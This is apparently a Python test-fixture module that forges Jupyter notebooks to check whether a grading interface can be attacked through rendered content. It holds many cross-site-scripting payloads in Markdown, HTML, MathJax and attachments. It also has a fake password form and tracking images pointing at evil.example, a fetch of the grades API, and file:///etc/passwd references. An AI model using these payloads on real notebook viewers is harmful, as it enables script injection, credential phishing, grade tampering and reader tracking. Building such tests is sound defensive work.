"""Forged notebooks that would run, load or say something in the page of who reads them."""

import base64

from .forgeries import code, forgery, markdown, marked

SCRIPTS = [
    "<script>evil()</script>",
    '<img src=x onerror="evil()"> <svg/onload=evil()> <b onmouseover=evil()>x</b>',
    "[x](javascript:evil()) <a href='JaVaScRiPt:evil()'>x</a>",
    "<a href='java&#10;script:evil()'>x</a> <a href='data:text/html,<script>evil()</script>'>x</a>",
    "<iframe src='javascript:evil()'></iframe><object data='javascript:evil()'></object>",
    "<iframe srcdoc='<script>evil()</script>'></iframe><embed src='data:text/html,x'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href='https://evil.example'>",
    "<style>* { display: none }</style><link rel=stylesheet href='https://evil.example'>",
    "<form action='https://evil.example'><input name=password><button>Log in</button></form>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=1 onerror=evil()>'>",
    "<noscript><p title='</noscript><img src=x onerror=evil()>'></noscript>",
    "<svg><a xlink:href='javascript:evil()'><text>x</text></a><animate onbegin=evil()></svg>",
    "<details open ontoggle=evil()><video><source onerror=evil()></video></details>",
    "![x](https://evil.example/seen.png) <img src='//evil.example/seen.png'>",
    "```html\n</code></pre><script>evil()</script>\n```",
    "`</code><script>evil()</script>` $</span><script>evil()</script>$",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>10 of 10</div>",
]


@forgery("04-cost")
def scripts_in_prose(nb):
    """Writes scripts into Markdown cells, raw cells and code cells, by every way of HTML."""
    nb["cells"] += [markdown(script) for script in SCRIPTS]
    for kind in (None, "text/html", "text/restructuredtext"):
        metadata = {"raw_mimetype": kind} if kind else {}
        raw = {"cell_type": "raw", "metadata": metadata, "source": SCRIPTS[0]}
        nb["cells"].append(raw)
    nb["cells"].append(code("# </pre><script>evil()</script>"))
    nb["metadata"]["title"] = "</title><script>evil()</script>"
    nb["metadata"]["authors"] = [{"name": "<script>evil()</script>"}]
    nb["metadata"]["language_info"] = {"name": "</script><script>evil()</script>"}
    nb["metadata"]["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"state": {"x": "</script><script>evil()"}}
    }
    return nb


@forgery("04-cost")
def scripts_in_attachments(nb):
    """Attaches pictures that are scripts, by their names, types and contents."""
    png = base64.b64encode(b"\x89PNG").decode()
    script = '"><script>evil()</script>'
    attached = {
        "a.png": {"image/png": f'{png}" onerror="evil()'},
        "b.png": {"image/png": script},
        script: {"image/png": png},
        "c.svg": {"image/svg+xml": base64.b64encode(b"<svg onload='evil()'/>").decode()},
        "d.html": {"text/html": "PHNjcmlwdD5ldmlsKCk8L3NjcmlwdD4="},
        "e.png": {'image/png" onerror="evil()': png},
    }
    source = " ".join(f"![x](attachment:{name})" for name in attached)
    nb["cells"].append(markdown(source, attachments=attached))
    return nb


FETCH = "fetch('/formgrader/api/grades')"
RUN = "javascript:document.title='SCRIPT-RAN'"


def asked(nb, sources):
    """Put these into the answers that a person reads, and into cells of their own."""
    for cell, source in zip(marked(nb, "solution"), ["\n\n".join(sources)]):
        if cell["cell_type"] == "markdown":
            cell["source"] = source
    nb["cells"] += [markdown(source) for source in sources]
    return nb


@forgery("02-init")
def links_behind_carriage_returns(nb):
    """Splits a line by carriage returns and their like, behind which Markdown begins anew."""
    ends = ["\r\r", "\r", "\x0b", "\x0c", "\x1c", "\x85", "\u2028\u2028", "\u2029", "\n\r\n"]
    link = f"[Full answer]({RUN})"
    sources = [f"My answer.{end}{link}{end}![t](http://127.0.0.1:9/x.png)" for end in ends]
    return asked(nb, sources + [f"    x{end}{link}" for end in ends])


@forgery("02-init")
def links_in_disguise(nb):
    """Writes links that run code by every way of Markdown, and hides what they are."""
    ways = ["javascript&colon;", "java&Tab;script:", "&#106;avascript:", "\x01javascript:"]
    ways += ["JAVASCRIPT:", "jav\\ascript:", "vbscript:", "data:text/html,", "java%0ascript:"]
    ways += ["view-source:javascript:", "feed:javascript:", "\u00a0javascript:", "//evil.example/"]
    run = "document.title='SCRIPT-RAN'"
    sources = [f"[full answer]({way}{run})\n\n[this][r]\n\n[r]: {way}{run}" for way in ways]
    sources += [f"<{way}{run}>" for way in ways] + [f"[x](<{way}{run}> 'a')" for way in ways]
    sources += [f"![x]({way}{run})" for way in ways]
    sources += [
        f"> 1. * [x]({RUN})",
        f"- a\n\n\t[x]({RUN})",
        f"x | y\n-|-\n[x]({RUN}) | [x]({RUN})",
    ]
    return asked(nb, sources)


@forgery("02-init")
def links_in_formulas(nb):
    """Writes formulas that MathJax makes links, styles and scripts of."""
    link = rf"\href{{{RUN}}}{{\text{{Full answer}}}}"
    sources = [f"${link}$", f"$$\n{link}\n$$", rf"\\({link}\\)", rf"\\[{link}\\]"]
    sources += [rf"\begin{{align}}{link}\end{{align}}", f"`$`{link}`$`", f"    $${link}$$"]
    sources += [rf"$\require{{html}}{link}$", rf"$\let\a=\href \a{{{RUN}}}{{x}}$"]
    sources += [
        rf"$\def\a{{\href}}\a{{{RUN}}}{{x}}$",
        r"$\unicode[x;background:url(//evil.example)]{65}$",
    ]
    sources += [r"$\style{position:fixed;inset:0;background:red}{10}$", r"$\class{modal}{x}$"]
    sources += [rf"$\mmlToken{{mi}}[href={RUN}]{{x}}$", r"$\cssId{marks}{x}\bbox[red,9px]{x}$"]
    sources += [f"<math><mi href={RUN}>x</mi></math>", rf"\$\${link}\$\$", f"&#36;{link}&#36;"]
    return asked(nb, sources)


@forgery("02-init")
def pictures_that_are_fetched(nb):
    """Loads something from outside, which tells who reads the answer and when."""
    there = "http://127.0.0.1:9/seen.png"
    sources = [f"![x]({there})", f"![x][r]\n\n[r]: {there}", f"![x](<{there}> 'a')"]
    sources += [f"[![x]({there})](#a)", "![x](//127.0.0.1:9/x)", "![x](\\\\127.0.0.1\\x)"]
    sources += [
        "![x](/formgrader/api/grades)",
        "![x](../../../etc/passwd)",
        "![x](file:///etc/passwd)",
    ]
    sources += [f"<picture><source srcset={there}></picture>", f"<input type=image src={there}>"]
    sources += [f"<b style='background:url({there})'>x</b>", f"<table background={there}><tr><td>x"]
    sources += ["![x](passwd)", "![x](attachment:../../x)", f"<link rel=prefetch href={there}>"]
    return asked(nb, sources)


@forgery("02-init")
def headings_that_are_globals(nb):
    """Names headings and anchors as the scripts of a page name their own things."""
    names = "MathJax formgrader require jQuery $ body score comment base_url id title".split()
    sources = [f"# {name}\n\n<a id='{name}' name='{name}' href='#'>x</a>" for name in names]
    return asked(nb, [*sources, "</div></div></div></body></html># 10 of 10"])


@forgery("02-init")
def text_from_right_to_left(nb):
    """Turns text around, hides it and stacks it, in names, answers and code."""
    turned = "\u202e\u2066\u200b\u200f\ufeff" + "Z" + "\u0301" * 300
    for number, cell in enumerate(nb["cells"]):
        cell["id"] = f"{turned}{number}"
    nb["cells"] += [
        code(f"# {turned}\nprint({turned!r})", nbgrader={"grade_id": f"a{turned}\x1b[2J"})
    ]
    return asked(nb, [turned * 20, "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07"])
